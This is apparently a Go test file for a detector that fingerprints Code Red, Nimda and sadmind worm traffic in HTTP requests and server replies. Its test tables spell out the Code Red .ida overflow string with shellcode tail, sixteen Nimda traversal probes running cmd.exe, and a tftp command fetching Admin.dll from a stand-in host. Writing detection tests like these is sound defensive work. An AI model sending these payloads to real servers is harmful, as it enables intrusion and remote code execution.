package fingerprint

import (
	"strings"
	"testing"
)

// codeRedShellTail is the %u tail both Code Red versions send after the pad
// (the complete form is in shared/corpus/real, AWStats test log line 82).
const codeRedShellTail = "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a"

var (
	codeRed1URI = "/default.ida?" + strings.Repeat("N", 224) + codeRedShellTail
	codeRed2URI = "/default.ida?" + strings.Repeat("X", 224) + codeRedShellTail
)

func TestMatchRequest(t *testing.T) {
	type want struct {
		ok         bool
		code, rule string
	}
	tests := []struct {
		name, method, uri string
		want              want
	}{
		{"code red I", "GET", codeRed1URI, want{true, "codered1-traffic", "codered1"}},
		{"code red II", "GET", codeRed2URI, want{true, "codered2-traffic", "codered2"}},
		{"code red II upper-case path", "GET", strings.Replace(codeRed2URI, "default.ida", "DEFAULT.IDA", 1), want{true, "codered2-traffic", "codered2"}},
		{"code red I pad only (log cut the line)", "GET", "/default.ida?" + strings.Repeat("N", 224), want{true, "codered1-traffic", "codered1-pad"}},
		{"code red II pad only", "GET", "/default.ida?" + strings.Repeat("X", 224) + "%u", want{true, "codered2-traffic", "codered2-pad"}},
		{"223 X is not code red, but an overflow", "GET", "/default.ida?" + strings.Repeat("X", 223) + codeRedShellTail, want{true, "ida-overflow", "ida-overflow"}},
		{"225 N is not code red, but an overflow", "GET", "/default.ida?" + strings.Repeat("N", 225) + codeRedShellTail, want{true, "ida-overflow", "ida-overflow"}},
		{"other .ida overflow", "GET", "/NULL.ida?" + strings.Repeat("A", 240) + "=X", want{true, "ida-overflow", "ida-overflow"}},
		{".idq overflow", "GET", "/x.idq?" + strings.Repeat("B", 300), want{true, "ida-overflow", "ida-overflow"}},
		{"scanner's single NULL.ida probe", "GET", "/NULL.ida", want{}},
		{"scanner's short .ida probe with query", "GET", "/x.ida?foo=bar", want{}},
		{"199-byte query is no overflow", "GET", "/a.ida?" + strings.Repeat("A", 199), want{}},
		{"default.ida without query", "GET", "/default.ida", want{}},
		{"nimda 1", "GET", "/scripts/root.exe?/c+dir", want{true, "nimda-traffic", "nimda-01"}},
		{"nimda 2", "GET", "/MSADC/root.exe?/c+dir", want{true, "nimda-traffic", "nimda-02"}},
		{"nimda 3", "GET", "/c/winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-03"}},
		{"nimda 4", "GET", "/d/winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-04"}},
		{"nimda 5", "GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-05"}},
		{"nimda 6", "GET", "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-06"}},
		{"nimda 7", "GET", "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-07"}},
		{"nimda 8", "GET", "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-08"}},
		{"nimda 9", "GET", "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-09"}},
		{"nimda 10", "GET", "/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-10"}},
		{"nimda 11", "GET", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-11"}},
		{"nimda 12", "GET", "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-12"}},
		{"nimda 13", "GET", "/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-13"}},
		{"nimda 14", "GET", "/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-14"}},
		{"nimda 15", "GET", "/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-15"}},
		{"nimda 16", "GET", "/scripts/..%252f../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-16"}},
		{"nimda as IIS logs it (KB 317605)", "GET", "/scripts/..\xc0\xaf../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-11"}},
		{"nimda IIS form %35c", "GET", "/scripts/..%35c../winnt/system32/cmd.exe?/c+dir", want{true, "nimda-traffic", "nimda-13"}},
		{"nimda tftp follow-up", "GET", "/scripts/root.exe?/c+tftp%20-i%20192.0.2.7%20GET%20Admin.dll%20c:\\Admin.dll", want{true, "nimda-traffic", "nimda-tftp"}},
		{"nimda Admin.dll", "GET", "/scripts/Admin.dll", want{true, "nimda-traffic", "nimda-admin-dll"}},
		{"nimda Admin.dll via traversal", "GET", "/scripts/..%255c../Admin.dll", want{true, "nimda-traffic", "nimda-admin-dll"}},
		{"sadmind GET x", "GET", "x", want{true, "sadmind-traffic", "sadmind-get-x"}},
		{"HEAD x is not sadmind", "HEAD", "x", want{}},
		{"cmd.exe traversal that is not one of nimda's", "GET", "/scripts/../../winnt/system32/cmd.exe?/c+ver", want{}},
		{"root.exe without the probe query", "GET", "/scripts/root.exe", want{}},
		{"ordinary page", "GET", "/index.html", want{}},
		{"ordinary download", "GET", "/files/setup.exe", want{}},
		{"webdav search (AWStats line 83)", "SEARCH", "/", want{}},
		{"empty", "GET", "", want{}},
		{"dot at end", "GET", "/a.", want{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, ok := MatchRequest([]byte(tt.method), []byte(tt.uri))
			got := want{ok, m.Code, m.Rule}
			if got != tt.want {
				t.Fatalf("MatchRequest(%q, %.60q) = %+v, want %+v", tt.method, tt.uri, got, tt.want)
			}
			if ok && m.Code != CodeIdaOverflow && m.Worm == "" {
				t.Errorf("worm name empty for %s", m.Rule)
			}
			if ok && QuickReject([]byte(tt.method), []byte(tt.uri)) {
				t.Errorf("QuickReject rejected a matching request")
			}
		})
	}
}

func TestNimdaProbesAllDistinctRules(t *testing.T) {
	uris := NimdaProbeURIs()
	if len(uris) != 16 {
		t.Fatalf("got %d Nimda probes, want 16", len(uris))
	}
	seen := map[string]bool{}
	for i, u := range uris {
		m, ok := MatchRequest([]byte("GET"), []byte(u))
		if !ok || m.Code != CodeNimdaTraffic {
			t.Fatalf("probe %d %q not matched as nimda: %+v", i+1, u, m)
		}
		if seen[m.Rule] {
			t.Errorf("probe %d %q matched rule %s twice", i+1, u, m.Rule)
		}
		seen[m.Rule] = true
	}
}

func TestMatchDefaultIdaPathOnly(t *testing.T) {
	tests := []struct {
		path string
		ok   bool
	}{
		{"/var/www/html/default.ida", true},
		{"/default.ida", true},
		{"/DEFAULT.IDA", true},
		{"/NULL.ida", false},
		{"/default.idq", false},
		{"/default.ida.bak", false},
	}
	for _, tt := range tests {
		m, ok := MatchDefaultIdaPathOnly([]byte(tt.path))
		if ok != tt.ok {
			t.Errorf("MatchDefaultIdaPathOnly(%q) = %v, want %v", tt.path, ok, tt.ok)
		}
		if ok && (m.Code != CodeCodeRed2Traffic || m.Worm != WormCodeRedUnknown) {
			t.Errorf("MatchDefaultIdaPathOnly(%q) = %+v", tt.path, m)
		}
	}
}

func TestMatchReply(t *testing.T) {
	tests := []struct {
		name, head string
		rule       string // "" = no match
	}{
		{"nimda page", "HTTP/1.1 200 OK\r\nServer: Microsoft-IIS/5.0\r\n\r\n<html><script language=\"JavaScript\">window.open(\"readme.eml\", null, \"resizable=no,top=6000,left=6000\")</script></html>", "reply-nimda-readme-eml"},
		{"code red I defacement", "HTTP/1.0 200 OK\r\n\r\n<html><head><title>HELLO!</title></head><body>Welcome to http://www.worm.com ! Hacked By Chinese!</body></html>", "reply-codered1-defaced"},
		{"cmd.exe dir output", "HTTP/1.1 502 Gateway Error\r\n\r\n<head><title>Error in CGI Application</title></head>... Volume in drive C has no label.\r\n Volume Serial Number is 1C2B-8A9F\r\n\r\n Directory of c:\\inetpub\\scripts", "reply-cmd-dir-output"},
		{"ordinary page", "HTTP/1.1 200 OK\r\n\r\n<html>hello readme</html>", ""},
		{"request, not a reply", "GET / HTTP/1.0\r\n\r\nwindow.open(\"readme.eml\"", ""},
		{"empty", "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, ok := MatchReply([]byte(tt.head))
			if ok != (tt.rule != "") || m.Rule != tt.rule {
				t.Fatalf("MatchReply = %+v, %v; want rule %q", m, ok, tt.rule)
			}
			if ok && m.Code != CodeInfectedReply {
				t.Errorf("code %q, want %q", m.Code, CodeInfectedReply)
			}
		})
	}
}

func TestMatchRequestAllocs(t *testing.T) {
	inputs := [][2][]byte{
		{[]byte("GET"), []byte(codeRed1URI)},
		{[]byte("GET"), []byte(codeRed2URI)},
		{[]byte("GET"), []byte("/scripts/..%252f../winnt/system32/cmd.exe?/c+dir")},
		{[]byte("GET"), []byte("/scripts/root.exe?/c+tftp%20-i")},
		{[]byte("GET"), []byte("/index.html")},
		{[]byte("GET"), []byte("x")},
	}
	reply := []byte("HTTP/1.1 200 OK\r\n\r\nwindow.open(\"readme.eml\", null")
	allocs := testing.AllocsPerRun(200, func() {
		for _, in := range inputs {
			MatchRequest(in[0], in[1])
		}
		MatchReply(reply)
		MatchDefaultIdaPathOnly([]byte("/default.ida"))
	})
	if allocs != 0 {
		t.Fatalf("MatchRequest/MatchReply allocate %.1f times per run, want 0", allocs)
	}
}

func BenchmarkMatchRequest(b *testing.B) {
	cases := []struct{ name, uri string }{
		{"ordinary", "/images/logo.gif"},
		{"codered2", codeRed2URI},
		{"nimda16", "/scripts/..%252f../winnt/system32/cmd.exe?/c+dir"},
	}
	for _, c := range cases {
		uri := []byte(c.uri)
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				MatchRequest([]byte("GET"), uri)
			}
		})
	}
}
